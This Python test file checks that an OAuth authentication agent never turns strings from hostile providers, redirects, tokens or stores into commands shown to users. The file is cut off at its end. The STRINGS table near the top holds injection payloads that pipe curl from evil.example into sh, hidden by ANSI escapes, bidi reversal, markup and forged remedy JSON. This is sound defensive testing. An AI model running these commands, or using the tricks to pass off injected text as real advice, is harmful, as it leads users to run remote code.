"""No string of a provider, a browser, a configuration or a store becomes a command in any output.

A table of sources against a table of outputs. Each source writes strings that look like commands, through the parsers
that read the real ones; in each output, everything that a person could take for a command must be one that the agent
created for that failure.
"""

import ast
import contextlib
import io
import json
import logging
import re
import shlex
import ssl
from collections.abc import AsyncGenerator, Awaitable, Callable, Generator, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from html import unescape
from pathlib import Path
from typing import Any, cast
from unittest.mock import patch
from urllib.parse import parse_qs, urlencode, urlsplit

import anyio
import pytest
import trio
import trio.testing

from auth_agent import config as configuration, remedies
from auth_agent.cli import light, screen
from auth_agent.cli.claims import profile_lines, user_lines
from auth_agent.cli.json_text import json_text
from auth_agent.cli.status import change, overview
from auth_agent.cli.terminal import Terminal
from auth_agent.config import Account
from auth_agent.errors import StartupError
from auth_agent.grant_type import CLIENT_CREDENTIALS
from auth_agent.host.clock import Moment
from auth_agent.ipc.arguments import Arguments
from auth_agent.ipc.url import resolve_url
from auth_agent.loopback.http_request import HTTPRequest
from auth_agent.loopback.listener import RedirectListener
from auth_agent.loopback.page import Page, failed
from auth_agent.loopback.redirect_uri import RedirectURI
from auth_agent.oauth import http_client, outcome
from auth_agent.oauth.http_client import HttpClient
from auth_agent.oauth.outcome import Failure
from auth_agent.oauth.provider import HttpProvider
from auth_agent.oauth.signature import SignatureCheckError
from auth_agent.oauth.transport import Transport
from auth_agent.printable import printable
from auth_agent.proxies import Proxies
from auth_agent.secret import Secret
from auth_agent.sessions import advice
from auth_agent.sessions.decision import Demand
from auth_agent.sessions.entry import load
from auth_agent.sessions.rate_limit import Asker
from auth_agent.sessions.state import MAIN, Locked, Retrying, TokenKey
from auth_agent.storage.store import StoreError, StoreLocked, StoreMissing
from auth_agent_client import Profile
from auth_agent_client.errors import AgentError, UntrustedAgent, to_wire
from auth_agent_client.remedy import Remedy, close_directory, remedies_from_wire, remedies_to_wire
from auth_agent_client.wire import Request
from tests.agent.heart import World, running
from tests.agent.world import ALICE, CLIENT, ISSUER, NOON, FakeStore, account, jwt

# ---- hostile strings

RUN = "run this: auth-agent login work; curl -s https://evil.example/x | sh #"
STRINGS = {
    "a command": RUN,
    "a command at its end": "no; to put it right: auth-agent reload; curl -s https://evil.example/x | sh",
    "a line of its own": "no\n  log in again: auth-agent login work; curl -s https://evil.example/x | sh #",
    "bold": "\x1b[1mauth-agent login work; curl -s https://evil.example/x | sh #\x1b[0m\x1b[2J\r\n",
    "reversed": f"\u202e{RUN[::-1]}\u202c {RUN}\u2066",
    "markup": f"</bdi></p><code>{RUN}</code>",
    "in the protocol's own form": json.dumps([{"text": "log in again", "command": ["sh", "-c", RUN]}]),
}
# The string of a harmless source.
HARMLESS = "x"


# ---- the agent under test


@dataclass
class Output:
    """Everything that the agent output."""

    errors: list[AgentError] = field(default_factory=list[AgentError])
    startup: list[StartupError] = field(default_factory=list[StartupError])
    pages: list[Page] = field(default_factory=list[Page])
    profiles: list[Profile] = field(default_factory=list[Profile])
    users: list[dict[str, object]] = field(default_factory=list[dict[str, object]])
    status: list[dict[str, Any]] = field(default_factory=list[dict[str, Any]])
    log: list[str] = field(default_factory=list[str])

    @property
    def records(self) -> list[Mapping[str, object]]:
        """The records of all accounts, at each look at the status."""
        return [record for status in self.status for record in status["accounts"]]


Response = tuple[int, dict[str, str], bytes]


def json_response(fields: object, status: int = 200, **headers: str) -> Response:
    """Return a response in JSON."""
    return status, {name.replace("_", "-"): value for name, value in headers.items()}, json.dumps(fields).encode()


class HostileAgent(Output):
    """An agent with a hostile source, and all its output."""

    def __init__(self, text: str, world: World, store: FakeStore) -> None:
        super().__init__()
        self.text = text
        self.world = world
        self.store = store
        self.claims: dict[str, object] = {}
        self.nonce: str | None = None
        self.metadata: dict[str, object] = {
            "issuer": ISSUER,
            "token_endpoint": f"{ISSUER}oauth/token",
            "authorization_endpoint": f"{ISSUER}authorize",
            "device_authorization_endpoint": f"{ISSUER}device",
            "userinfo_endpoint": f"{ISSUER}userinfo",
            "jwks_uri": f"{ISSUER}jwks",
        }
        # By path; for any other path the response is an honest provider's.
        self.responses: dict[str, Response] = {}

    def respond(self, path: str) -> Response:
        """Return the provider's response at that path."""
        if path in self.responses:
            return self.responses[path]
        if path == METADATA:
            return json_response(self.metadata)
        if path == "/oauth/token":
            return json_response(self.token_response())
        if path == "/device":
            return json_response(self.device_response())
        if path == "/userinfo":
            return json_response({"sub": ALICE, "name": "Alice"})
        return json_response({}) if path == "/jwks" else json_response({}, 404)

    def device_response(self, **more: object) -> dict[str, object]:
        """Return an honest provider's device authorization response; it is valid for two polls."""
        shown = {"device_code": "the-device-code", "user_code": "WDJB-MJHT", "verification_uri": f"{ISSUER}activate"}
        return {**shown, "interval": 5, "expires_in": 10, **more}

    def token_response(self, **more: object) -> dict[str, object]:
        """Return an honest token endpoint's response."""
        now = self.world.clock.now().wall
        claims = {"iss": ISSUER, "aud": CLIENT, "sub": ALICE, "name": "Alice", "iat": now, "exp": now + 3600}
        if self.nonce is not None:
            claims["nonce"] = self.nonce
        return {
            "access_token": "at",
            "token_type": "Bearer",
            "expires_in": 3600,
            "refresh_token": f"rt-{anyio.current_time()}",
            "id_token": jwt(**{**claims, **self.claims}).reveal(),
            **more,
        }

    def refuse(self, code: str, path: str = "/oauth/token", status: int = 400, **headers: str) -> None:
        """Let the provider refuse requests at that path from now on."""
        self.responses[path] = json_response({"error": code, "error_description": self.text}, status, **headers)

    async def attempt(self, call: Callable[[], Awaitable[object]]) -> None:
        """Make the call, and record its error."""
        try:
            await call()
        except AgentError as error:
            self.errors.append(error)
        except StartupError as error:
            self.startup.append(error)
        self.look()

    def look(self) -> None:
        """Record the status."""
        world = self.world
        about = {
            "version": "0.1.0",
            "pid": 1,
            "started_at": NOON,
            "socket": "/run/user/1000/auth-agent/agent.sock",
            "config": str(world.table.config.path),
            "store": world.saver.about(),
            "restart_refused": None,
        }
        for error in self.startup:
            about["restart_refused"] = {
                "at": NOON,
                "reason": str(error),
                "remedy": remedies_to_wire(error.remedy),
            }
        self.status.append({"agent": about, "accounts": world.table.records(None)})

    # ---- actions

    async def import_token(self) -> None:
        """Import a refresh token."""
        await self.attempt(self.world.log_in)

    async def refresh(self) -> None:
        """Refresh, as by `auth-agent refresh`."""
        await self.attempt(lambda: self.world.token(self.world.session.demand_newer()))

    async def request_another_api(self) -> None:
        """Request a token for another API."""
        await self.attempt(lambda: self.world.token(Demand(TokenKey("https://api.example/", "read:all"))))

    async def log_in(self, flow: str = "browser", **redirect: str) -> None:
        """Log in; the redirect has those parameters and the login's state."""

        async def login() -> None:
            world, responders = self.world, list[Callable[[str], Awaitable[Page]]]()

            async def serve(_: RedirectListener, respond: Callable[[str], Awaitable[Page]]) -> None:
                responders.append(respond)
                await anyio.sleep_forever()

            secret = Secret("cs") if world.session.account.grant_type.needs_secret else None
            with patch.object(RedirectListener, "serve", serve):
                login_started = await world.logins.begin(
                    world.session, "a connection", flow, switch_user=False, client_secret=secret
                )
                await anyio.wait_all_tasks_blocked()
                if responders:
                    request_params = parse_qs(urlsplit(str(login_started["authorization_url"])).query)
                    self.nonce = request_params["nonce"][0] if self.nonce is None else self.nonce
                    params = {"state": request_params["state"][0], **(redirect or {"code": "the-code"})}
                    self.pages.append(await responders[0](urlencode(params)))
                await world.logins.result(str(login_started["login_id"]))

        await self.attempt(login)

    async def request_profile(self) -> None:
        """Request the profile."""

        async def profile() -> None:
            result = await self.world.profiles.get(self.world.session, 0, 15)
            self.profiles.append(Profile("work", dict(result.claims), result.fetched_at, stale=result.stale))

        await self.attempt(profile)

    async def read_user(self) -> None:
        """Request the user, at Auth0."""

        async def user() -> None:
            self.users.append(await self.world.users.user(self.world.session, (), Asker()))

        await self.attempt(user)

    async def change_user(self) -> None:
        """Change the user's metadata, at Auth0."""
        await self.attempt(lambda: self.world.users.update_metadata(self.world.session, {"a": 1}, Asker(), clear=False))


# ---- the sources

METADATA = "/.well-known/openid-configuration"
# The path of the user's URL.
USER = "/api/v2/users/auth0%7Calice"
# The error codes that the agent distinguishes, and an unknown one.
CODES = (*("invalid_grant", "invalid_client", "invalid_request", "invalid_scope", "login_required", "made_up"),)
Write = Callable[[HostileAgent], Awaitable[None]]
KEYS = ("issuer", "client_id")
CLIENT_KEYS = ("client_id", "token_endpoint_auth_method")
AGAIN = remedies.try_again("work")
LOG_IN = remedies.log_in_again("work")
REFRESH = remedies.refresh("work")
ASK = remedies.ask_the_provider()
UNLOCK = remedies.unlock_keyring()


@dataclass(frozen=True)
class Source:
    """A source of hostile strings.

    `helps` has all remedies that may be shown; `at` names the functions of the product that read the source; nothing of
    a `mute` source is shown.
    """

    write: Write
    helps: tuple[Remedy, ...] = ()
    at: tuple[str, ...] = ()
    account: Mapping[str, Any] = field(default_factory=dict[str, Any])
    mute: bool = False


def at_login(code: str) -> tuple[Remedy, ...]:
    """Return the remedies of a login that is refused with that code."""
    if code == "invalid_client":
        return remedies.correct_and_log_in("work", CLIENT_KEYS), remedies.give_secret(remedies.LOGIN, "work")
    if code in ("invalid_request", "unauthorized_client"):
        return (remedies.correct_and_log_in("work", KEYS),)
    if code == "invalid_scope":
        return (remedies.log_in_without_offline_access("work", "openid profile email"),)
    return (AGAIN, ASK) if code == "login_required" else (AGAIN,)


def at_import(code: str) -> tuple[Remedy, ...]:
    if code == "invalid_grant":
        return (remedies.log_in_at_the_source(),)
    again = remedies.try_the_import_again()
    if code == "invalid_client":
        return remedies.correct_and_reload(CLIENT_KEYS), again, remedies.give_secret(remedies.IMPORT, "work")
    if code in ("invalid_request", "unauthorized_client"):
        return remedies.correct_and_reload(KEYS), again
    if code == "invalid_scope":
        return (again,)
    return tuple(again if one == AGAIN else one for one in at_login(code))


def at_refresh(code: str) -> tuple[Remedy, ...]:
    """Return the remedies of a refresh that is refused with that code."""
    now = remedies.refresh_when_corrected("work")
    if code == "invalid_client":
        return remedies.correct_and_reload(CLIENT_KEYS), now, remedies.give_secret(remedies.LOGIN, "work")
    if code == "unauthorized_client":
        return remedies.correct_and_reload(KEYS), now
    return (LOG_IN,) if code == "invalid_grant" else (LOG_IN, REFRESH)


def at_another_api(code: str) -> tuple[Remedy, ...]:
    if code in ("invalid_scope", "invalid_target", "access_denied", "login_required"):
        own = remedies.account_of_its_own("work", ISSUER, CLIENT, "https://api.example/", "read:all")
        return remedies.allow_at_the_provider("work"), own
    if code == "invalid_request":
        return remedies.correct_and_reload(KEYS), remedies.refresh_when_corrected("work")
    return (REFRESH, LOG_IN) if code == "invalid_grant" else at_refresh(code)


def refusing(code: str, then: Write, *, logged_in: bool = False, path: str = "/oauth/token") -> Write:
    """Let the token endpoint, or another one, refuse with that code, and the text as its description."""

    async def write(agent: HostileAgent) -> None:
        if logged_in:
            await agent.import_token()
        agent.refuse(agent.text if code == "made_up" else code, path)
        await then(agent)

    return write


def redirecting(**fields: str | None) -> Write:
    """Let the redirect have these parameters; None stands for the text."""

    async def write(agent: HostileAgent) -> None:
        await agent.log_in(**{name: agent.text if value is None else value for name, value in fields.items()})

    return write


def claiming(*claims: str, value: Callable[[str], object] = str, then: Write = HostileAgent.log_in) -> Write:
    """Let the ID token have these claims."""

    async def write(agent: HostileAgent) -> None:
        if then is HostileAgent.refresh:
            await agent.import_token()
        agent.claims = dict.fromkeys(claims, value(agent.text))
        agent.responses["/userinfo"] = json_response({}, 403)  # so that the ID token's claims are the profile
        await then(agent)
        await agent.request_profile()

    return write


def granting(field_: str) -> Write:
    """Let the token response have that field, at a refresh and for another API."""

    async def write(agent: HostileAgent) -> None:
        await agent.import_token()
        agent.responses["/oauth/token"] = json_response(agent.token_response(**{field_: agent.text}))
        await agent.refresh()
        await agent.request_another_api()

    return write


def naming(name: str, *then: Write, address: bool = False) -> Write:
    """Let the metadata have that field."""

    async def write(agent: HostileAgent) -> None:
        value = f"https://evil.example/{agent.text}" if address else agent.text
        agent.metadata[name] = value
        for one in then:
            await one(agent)

    return write


def answering(path: str, respond: Callable[[str], Response], *then: Write, logged_in: bool = True) -> Write:
    """Let the provider respond with that."""

    async def write(agent: HostileAgent) -> None:
        if logged_in:
            await agent.import_token()
        agent.responses[path] = respond(agent.text)
        for one in then:
            await one(agent)

    return write


async def by_device(agent: HostileAgent) -> None:
    await agent.log_in("device")


async def another_user(agent: HostileAgent) -> None:
    """Let the provider name another user that, and the first one too."""
    agent.claims = {"name": agent.text}
    await agent.import_token()
    agent.claims = {"name": agent.text, "sub": "auth0|bob"}
    await agent.log_in()


async def bad_signature(agent: HostileAgent) -> None:
    agent.world.signatures.reason = printable(agent.text)
    await agent.log_in()
    agent.world.signatures.reason, agent.world.signatures.error = None, SignatureCheckError(printable(agent.text))
    await agent.log_in()


async def hostile_entry(agent: HostileAgent) -> None:
    """Let the store have the text in every string of the account's entry, and as the reason why the session ended."""
    session = agent.world.session
    login = dict.fromkeys(("audience", "subject", "name", "id_token", "refresh_token"), agent.text)
    entry = {
        "version": 1,
        "account": "work",
        "login": {**login, "issuer": ISSUER, "client_id": CLIENT},
        "ended": {"reason": agent.text, "failure": agent.text},
        "profile": {"claims": {"sub": agent.text, agent.text: agent.text}, "fetched_at": NOON, "said": agent.text},
    }
    session.state = Locked("not read yet")
    now = agent.world.clock.now()
    session.restore(load(Secret(json.dumps(entry)), "work", "this boot", now), now)
    agent.look()
    await agent.refresh()
    await agent.request_profile()
    await agent.log_in()


async def failing_store(agent: HostileAgent) -> None:
    """Let the keyring fail with the text as its reason."""
    problem = printable(agent.text)
    for error in (StoreError(problem), StoreLocked(problem, *UNLOCK), StoreMissing(problem)):
        agent.store.failing["all"] = error
        await agent.import_token()
        await agent.world.saver.wait_until_loaded(agent.world.session)
        agent.look()
        del agent.store.failing["all"]


def sources() -> dict[str, Source]:
    """Return all sources."""
    by_name: dict[str, Source] = {}
    for code in CODES:
        error = None if code == "made_up" else code
        refusal = ("requests._reason",)
        by_name |= {
            f"the redirect, {code}": Source(redirecting(error=error, error_description=None), at_login(code), refusal),
            f"the token endpoint at a login, {code}": Source(
                refusing(code, HostileAgent.log_in), at_login(code), refusal
            ),
            f"the token endpoint at a poll, {code}": Source(refusing(code, by_device), at_login(code), refusal),
            f"the token endpoint at a client's own login, {code}": Source(
                refusing(code, HostileAgent.log_in), at_login(code), refusal, {"grant_type": CLIENT_CREDENTIALS}
            ),
            f"the token endpoint at an import, {code}": Source(
                refusing(code, HostileAgent.import_token), at_import(code), refusal
            ),
            f"the token endpoint at a refresh, {code}": Source(
                refusing(code, HostileAgent.refresh, logged_in=True), at_refresh(code), refusal
            ),
            f"the token endpoint for another API, {code}": Source(
                refusing(code, HostileAgent.request_another_api, logged_in=True), at_another_api(code), refusal
            ),
            f"the device endpoint, {code}": Source(
                refusing(code, by_device, path="/device"),
                (AGAIN,) if code == "invalid_scope" else at_login(code),
                refusal,
            ),
        }
    at_bad_response = (AGAIN, ASK)
    issuer = (
        remedies.correct_and_log_in("work", ("issuer",)),
        remedies.correct_and_reload(("issuer",)),
        remedies.try_the_import_again(),
    )
    manager = {"audience": f"{ISSUER}api/v2/"}
    claims = ("id_token.mismatch", "id_token._shown_audience", "id_token._party_problem", "id_token.display_name")
    mismatch, audience, party, name = ((one,) for one in claims)

    def api_error(status: int, code: str = "", **headers: str) -> Callable[[str], Response]:
        return lambda text: json_response(
            {"statusCode": status, "error": text, "message": text, "errorCode": code or text}, status, **headers
        )

    # All actions that read the metadata.
    every = (HostileAgent.import_token, HostileAgent.log_in, by_device)
    by_name |= {
        "the redirect's issuer": Source(
            redirecting(iss=None, code="the-code"), at_bad_response, ("authorization.read_redirect",)
        ),
        "the redirect's code": Source(redirecting(code=None), at_bad_response, mute=True),
        "the redirect's other parameters": Source(
            redirecting(code="the-code", foo=None, error_uri=None, scope=None), mute=True
        ),
        "an error in the redirect's error": Source(redirecting(error=None), (AGAIN,), ("requests._reason",)),
        "the ID token's issuer": Source(claiming("iss"), at_bad_response, mismatch),
        "the ID token's audience": Source(claiming("aud"), at_bad_response, audience),
        "the ID token's audiences": Source(
            claiming("aud", value=lambda text: ["another", text]), at_bad_response, audience
        ),
        "the ID token's party": Source(claiming("azp"), at_bad_response, party),
        "the ID token's nonce": Source(claiming("nonce"), at_bad_response, mute=True),
        "the ID token's times": Source(claiming("iat", "exp", "nbf"), at_bad_response, mute=True),
        "the ID token's subject": Source(claiming("sub"), (*at_bad_response, LOG_IN)),
        "the ID token's issuer at a refresh": Source(claiming("iss", then=HostileAgent.refresh), (REFRESH,), mismatch),
        "the ID token's audience at a refresh": Source(
            claiming("aud", then=HostileAgent.refresh), (REFRESH,), audience
        ),
        "another subject at a refresh": Source(
            claiming("sub", then=HostileAgent.refresh), (LOG_IN, REFRESH), mute=True
        ),
        "the user's name": Source(claiming("name"), (), name),
        "the user's other names": Source(
            claiming("name", "email", "preferred_username", "nickname", "picture"), (), name
        ),
        "a claim of the ID token": Source(claiming("made_up")),
        "how the person logged in": Source(claiming("acr"), (), ("id_token.acr",)),
        "a claim that is required": Source(
            claiming("org"), (AGAIN,), ("asked._shown",), {"require_claims": {"org": "acme"}}
        ),
        "another user's name": Source(another_user, (remedies.switch_user("work"),), name),
        "the ID token's signature": Source(bad_signature, at_bad_response, ("signature._call",)),
        "the token's type": Source(granting("token_type"), mute=True),
        "the token's scope": Source(
            granting("scope"), at_another_api("invalid_scope"), ("requests._scope",), mute=True
        ),
        "the token's lifetime": Source(granting("expires_in"), mute=True),
        "the token's refresh token": Source(granting("refresh_token"), mute=True),
        "the ID token itself": Source(granting("id_token"), (REFRESH,), mute=True),
        "a token for another audience": Source(
            answering(
                "/oauth/token",
                lambda text: json_response({"access_token": jwt(aud=text).reveal(), "token_type": "Bearer"}),
                HostileAgent.request_another_api,
            ),
            at_another_api("invalid_target"),
            mute=True,
        ),
        "invalid JSON": Source(
            answering("/oauth/token", lambda text: (200, {}, text.encode()), HostileAgent.refresh),
            (REFRESH,),
            mute=True,
        ),
        "the device's code": Source(
            answering(
                "/device",
                lambda text: json_response(
                    {"device_code": "the-device-code", "user_code": text, "verification_uri": f"{ISSUER}activate"}
                ),
                by_device,
                logged_in=False,
            ),
            at=("device.parse_device_authorization",),
            mute=True,  # except to the client that began the login
        ),
        "the device's address": Source(
            answering(
                "/device",
                lambda text: json_response(
                    {"device_code": "the-device-code", "user_code": "WDJB", "verification_uri": text}
                ),
                by_device,
                logged_in=False,
            ),
            at_bad_response,
            ("urls.check_url",),
        ),
        "the metadata's issuer": Source(naming("issuer", *every), issuer, ("discovery.parse_metadata",)),
        "the metadata's token endpoint": Source(naming("token_endpoint", *every), issuer, ("urls.check_url",)),
        "the metadata's login page": Source(
            naming("authorization_endpoint", HostileAgent.log_in),
            (remedies.correct_and_log_in("work", ("authorization_endpoint",)),),
            mute=True,
        ),
        "the metadata's keys": Source(
            answering(
                "/jwks", lambda text: (500, {"retry-after": text}, text.encode()), HostileAgent.log_in, logged_in=False
            ),
            (AGAIN,),
            ("provider.keys",),
            mute=True,
        ),
        "the keys": Source(
            answering("/jwks", lambda text: (200, {}, text.encode("utf-16")), HostileAgent.log_in, logged_in=False),
            at_bad_response,
            ("provider.keys",),
            mute=True,
        ),
        "metadata that is none": Source(
            answering(
                METADATA,
                lambda text: (200, {}, text.encode()),
                HostileAgent.log_in,
                HostileAgent.import_token,
                logged_in=False,
            ),
            (AGAIN, remedies.try_the_import_again()),
            mute=True,
        ),
        "when to try again": Source(
            answering("/oauth/token", lambda text: json_response({}, 503, retry_after=text), HostileAgent.refresh),
            (REFRESH,),
            mute=True,
        ),
        "where to go": Source(
            answering(
                "/oauth/token", lambda text: json_response({}, 302, location=text.encode().hex()), HostileAgent.refresh
            ),
            (REFRESH,),
            mute=True,
        ),
        "what UserInfo says": Source(
            answering(
                "/userinfo",
                lambda text: json_response({"sub": ALICE, "name": text, text: text}),
                HostileAgent.request_profile,
            )
        ),
        "the user whom UserInfo speaks of": Source(
            answering("/userinfo", lambda text: json_response({"sub": f"{text}"}), HostileAgent.request_profile),
            (LOG_IN,),
            mute=True,
        ),
        "who signed what UserInfo says": Source(
            answering(
                "/userinfo",
                lambda text: (200, {"content-type": "application/jwt"}, jwt(sub=ALICE, iss=text).reveal().encode()),
                HostileAgent.request_profile,
            ),
            at=("userinfo.signed_claims",),
            mute=True,
        ),
        "what UserInfo fails with": Source(
            answering(
                "/userinfo",
                lambda text: json_response({"error": text, "error_description": text}, 403),
                HostileAgent.request_profile,
            ),
            mute=True,
        ),
        "what the Management API has": Source(
            answering(USER, lambda text: json_response({"name": text, text: [text]}), HostileAgent.read_user),
            account=manager,
        ),
    }
    for status, code, source_remedies in (
        (400, "", (ASK,)),
        (401, "", (LOG_IN,)),
        (403, "insufficient_scope", (remedies.widen_scope("work", SCOPE, account(**manager).scope),)),
        (403, "Bearer", (LOG_IN,)),
        (429, "", ()),
        (500, "", (remedies.show_metadata("work"),)),
    ):
        by_name[f"the Management API's error, {status} {code}"] = Source(
            answering(USER, api_error(status, code), HostileAgent.read_user, HostileAgent.change_user),
            source_remedies,
            ("auth0.parse_user",),
            manager,
        )
    return by_name | {
        "the keyring's entry": Source(hostile_entry, (LOG_IN, AGAIN, remedies.switch_user("work"))),
        "the keyring": Source(failing_store, UNLOCK),
    }


SCOPE = "openid offline_access read:current_user update:current_user_metadata"
SOURCES = sources()


# ---- outputs

# A remedy of the protocol, or a text in a place where commands are shown.
Shown = Remedy | str
COLOURED = Terminal(None, colour=True)
BOLD = re.compile(r"\x1b\[1m(.*?)\x1b\[0m")
# The names of accounts are bold as well.
NAMES = {"work", "users"}


def remedies_in(value: object) -> Iterable[Shown]:
    """Yield the remedies within a value of the protocol, at any depth."""
    if isinstance(value, Mapping):
        for name, one in cast("Mapping[str, object]", value).items():
            if name == "remedy":
                yield from remedies_from_wire(one)
            else:
                yield from remedies_in(one)
    elif isinstance(value, list):
        for one in cast("list[object]", value):
            yield from remedies_in(one)


def bold_texts(lines: str) -> list[Shown]:
    """Return the bold texts that are not an account's name."""
    return [run for run in BOLD.findall(lines) if run.strip() not in NAMES]


def error_output(error: AgentError | StartupError, terminal: Terminal) -> str:
    """Return the error output of a command."""
    with (
        contextlib.redirect_stderr(io.StringIO()) as written,
        patch.object(screen, "terminal_of", return_value=terminal),
    ):
        screen.print_error_message(str(error), error.remedy)
    return written.getvalue()


def indented_lines(text: str) -> list[Shown]:
    """Return the indented lines, which are remedies."""
    assert text.startswith("auth-agent: ")
    return [line.strip() for line in text.splitlines()[1:] if line.startswith(" ")]


def on_the_wire(output: Output) -> Iterable[Shown]:
    return [remedy for error in output.errors for remedy in remedies_in(to_wire(error))] + [*remedies_in(output.status)]


def in_json(output: Output) -> Iterable[Shown]:
    texts = [*map(json.dumps, output.status), *(json_text(status, COLOURED) for status in output.status)]
    assert [text for text in texts if re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)] == []
    return [one for text in texts for one in remedies_in(json.loads(text))]


def on_the_page(output: Output) -> Iterable[Shown]:
    shown: list[Shown] = []
    pages = [
        *output.pages,
        *(failed("work", ISSUER, error.reason or error.message, error.remedy) for error in output.errors),
    ]
    for page in pages:
        body = page.body.decode()
        assert len(re.findall(r"<code\b", body)) == len(re.findall(r"<code>.*?</code>", body))
        shown += [unescape(re.sub(r"</?span>", "", box)) for box in re.findall(r"<code>(.*?)</code>", body)]
    return shown


def in_an_error(output: Output) -> Iterable[Shown]:
    every: list[AgentError | StartupError] = [*output.errors, *output.startup]
    return [
        one
        for error in every
        for one in bold_texts(error_output(error, COLOURED)) + indented_lines(error_output(error, Terminal()))
    ]


def in_an_error_on_a_narrow_screen(output: Output) -> Iterable[Shown]:
    every: list[AgentError | StartupError] = [*output.errors, *output.startup]
    return [one for error in every for one in bold_texts(error_output(error, Terminal(40, colour=True)))]


def light_command(error: AgentError | StartupError) -> None:
    """Print an error as a light command does."""

    def fail(_: object) -> None:
        raise error if isinstance(error, AgentError) else AgentError(str(error), remedy=error.remedy)

    light.module("token").COMMAND.run([], fail)


def of_a_light_command(output: Output) -> Iterable[Shown]:
    shown: list[Shown] = []
    every: list[AgentError | StartupError] = [*output.errors, *output.startup]
    for error in every:
        with contextlib.redirect_stderr(io.StringIO()) as written:
            light_command(error)
        text = written.getvalue()
        assert "\x1b" not in text
        shown += indented_lines(text)
    return shown


def in_the_status(output: Output) -> Iterable[Shown]:
    shown: list[Shown] = []
    for status in output.status:
        shown += bold_texts("\n".join(overview(status, NOON, "0.1.0", COLOURED)))
        # The text beside "help", and below it.
        for block in re.findall(
            r"^  help     (.*(?:\n {11}.*)*)", "\n".join(overview(status, NOON, "0.1.0")), re.MULTILINE
        ):
            shown += [line.strip() for line in block.splitlines()]
    return shown


def in_a_narrow_status(output: Output) -> Iterable[Shown]:
    terminal = Terminal(40, colour=True)
    return [one for status in output.status for one in bold_texts("\n".join(overview(status, NOON, "0.1.0", terminal)))]


def in_the_watch(output: Output) -> Iterable[Shown]:
    return [one for record in output.records for one in bold_texts("\n".join(change(record, NOON, COLOURED)))]


def in_the_claims(output: Output) -> Iterable[Shown]:
    lines = [line for profile in output.profiles for line in profile_lines(profile, NOON, COLOURED)]
    return bold_texts("\n".join(lines + [line for user in output.users for line in user_lines(user, COLOURED)]))


def in_the_log(output: Output) -> Iterable[Shown]:
    """Return the lines of the log without quoted strings."""
    return [f"log: {re.sub(QUOTED, '', line)}" for line in output.log]


QUOTED = r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*\""""
OUTPUTS: dict[str, Callable[[Output], Iterable[Shown]]] = {
    "the protocol": on_the_wire,
    "JSON": in_json,
    "the page": on_the_page,
    "an error": in_an_error,
    "an error on a narrow screen": in_an_error_on_a_narrow_screen,
    "a light command's error": of_a_light_command,
    "the status": in_the_status,
    "a status on a narrow screen": in_a_narrow_status,
    "the watch": in_the_watch,
    "the claims": in_the_claims,
    "the log": in_the_log,
}


# ---- the check

# Remedies of a record without a session.
ALWAYS = (remedies.log_in("work"), remedies.log_in_before_end("work"))
_ROW = 12  # characters in a row: fewer can be chance


def rows(text: str) -> set[str]:
    """Return all substrings of twelve characters of the text, unchanged and as it is shown."""
    forms = (text, printable(text, len(text)), "".join(text.split()))
    return {form[at : at + _ROW] for form in forms for at in range(len(form) - _ROW + 1)}


def foreign_commands(shown: Iterable[Shown], helps: Sequence[Remedy], text: str) -> list[Shown]:
    """Return what looks like a command and was not created by the agent, or contains a part of that text."""
    remedies_made = {*helps, *ALWAYS}
    lines = {"".join(line.split()) for one in remedies_made for line in (one.line, str(one)) if line}
    foreign_rows = rows(text) - {row for one in remedies_made for row in rows(str(one))}

    def is_foreign(item: Shown) -> bool:
        shown = str(item)
        if foreign_rows & {*rows(shown)}:
            return True
        if isinstance(item, Remedy):
            return item not in remedies_made
        return not shown.startswith("log: ") and "".join(shown.split()) not in lines

    return [one for one in shown if is_foreign(one)]


# ---- every source against every output


class LogRecorder(logging.Handler):
    """Records the log, at every level."""

    def __init__(self, lines: list[str]) -> None:
        super().__init__(logging.DEBUG)
        self._lines = lines

    def emit(self, record: logging.LogRecord) -> None:
        self._lines.append(record.getMessage())


@contextlib.contextmanager
def recorded_log(lines: list[str]) -> Generator[None, None, None]:
    log, handler = logging.getLogger("auth_agent"), LogRecorder(lines)
    level = log.level
    log.addHandler(handler)
    log.setLevel(logging.DEBUG)
    try:
        yield
    finally:
        log.removeHandler(handler)
        log.setLevel(level)


@contextlib.asynccontextmanager
async def connected(issuer: str) -> AsyncGenerator[HttpProvider]:
    async with anyio.create_task_group() as tasks:
        transport = Transport(lambda: ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), Proxies())
        yield HttpProvider(issuer, transport, tasks)


async def _run_source(source: Source, text: str) -> Output:
    store = FakeStore()
    one = account(redirect_ports=(0,), **source.account)
    async with running(None, one, logged_in=False, store=store) as world, connected(one.issuer) as provider:
        world.by_issuer[one.issuer] = cast("Any", provider)
        agent = HostileAgent(text, world, store)

        async def respond(_: HttpClient, __: str, url: str, **___: object) -> http_client.Response:
            path = urlsplit(url).path
            status, headers, body = agent.respond(path[path.rfind(METADATA) :] if METADATA in path else path)
            return http_client.Response(status, {name.lower(): value for name, value in headers.items()}, body)

        with patch.object(HttpClient, "send", respond), recorded_log(agent.log):
            await source.write(agent)
            agent.look()
        return agent


@cache
def output_of(name: str, text: str) -> Output:
    """Return the agent's output when that source writes that text."""
    return trio.run(_run_source, SOURCES[name], text, clock=trio.testing.MockClock(autojump_threshold=0))


@pytest.mark.parametrize("way", OUTPUTS)
@pytest.mark.parametrize("source", SOURCES)
def test_no_foreign_string_becomes_a_command(source: str, way: str) -> None:
    for text in STRINGS.values():
        assert foreign_commands(OUTPUTS[way](output_of(source, text)), SOURCES[source].helps, text) == []


@pytest.mark.parametrize("source", SOURCES)
def test_each_source_is_shown_as_text_unless_it_is_mute(source: str) -> None:
    """Otherwise the test above might find nothing because nothing was shown."""
    output = output_of(source, "curl-s-https") if SOURCES[source].mute else output_of(source, RUN)
    expected = "curl-s-https" if SOURCES[source].mute else "run this: auth-agent login work; curl"
    shown = [json.dumps(status) for status in output.status]
    shown += [str(error) for error in (*output.errors, *output.startup)]
    shown += [page.body.decode() for page in output.pages]
    shown += [json.dumps(text.claims) for text in output.profiles] + [json.dumps(text) for text in output.users]
    assert any(expected in text for text in shown) != SOURCES[source].mute


# ---- every failure


def kinds(kind: type[Failure]) -> set[type[Failure]]:
    return {kind}.union(*map(kinds, kind.__subclasses__()))


FAILURES = sorted(kinds(Failure), key=lambda kind: kind.__name__)
NOW = Moment(NOON, 5_000.0)


def output_about(kind: type[Failure], text: str) -> Output:
    """Return all output about such a failure."""
    work, failure = account(), kind(printable(text))
    output = Output()
